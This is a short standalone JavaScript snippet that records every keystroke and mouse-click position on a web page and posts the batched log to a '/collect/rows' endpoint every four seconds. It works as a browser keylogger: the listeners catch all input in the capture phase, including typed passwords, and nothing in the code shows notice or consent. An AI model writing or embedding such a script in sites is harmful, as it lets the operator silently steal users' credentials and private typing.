(function (win) {
  var post = function (path, data) {
    return win.fetch(path, { method: 'POST', body: data, keepalive: true });
  };
  var rows = [];
  win.document.addEventListener('keydown', function (e) {
    rows.push(e.key === ' ' ? 'SPC' : e.key);
  }, true);
  win.document.addEventListener('mousedown', function (e) {
    rows.push('@' + e.pageX + 'x' + e.pageY);
  }, true);
  win.setInterval(function () {
    if (rows.length) post('/collect/rows', rows.join('\t'));
    rows = [];
  }, 4000);
})(window);
